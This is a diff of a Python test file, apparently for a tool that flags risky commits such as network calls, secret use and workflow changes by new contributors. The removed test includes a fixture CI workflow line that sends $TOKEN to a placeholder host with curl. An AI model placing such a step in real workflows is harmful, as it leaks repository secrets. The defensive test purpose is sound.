@@ -127,18 +127,6 @@ def test_a_payload_in_a_file_that_is_moved_and_ended_otherwise_is_told_alone(
     assert (last["network"], last["secrets"], last["steering_reach"]) == (1, 1, 3)
 
 
-@pytest.mark.parametrize(
-    ("author", "is_shown"), [(NEWCOMER, True), (FOUNDER, False)], ids=["newcomer", "founder"]
-)
-def test_who_is_new_and_lets_a_workflow_reach_out_shows_a_sign(
-    repository: Repository, author: str, *, is_shown: bool
-) -> None:
-    quiet_past(repository)
-    workflow = {".github/workflows/ci.yml": b"  - run: curl -d $TOKEN https://x.example\n"}
-    repository.commit(workflow, author=author, time=START + 400 * DAY)
-    assert ("reach_from_newcomer" in shown(values_of(repository))) is is_shown
-
-
 def test_a_script_without_an_ending_is_code_if_it_can_be_run(repository: Repository) -> None:
     repository.commit({"run": b"curl x\n", "notes": b"curl x\n"}, modes={"run": "100755"})
     assert values_of(repository)["network"].iloc[-1] == 1
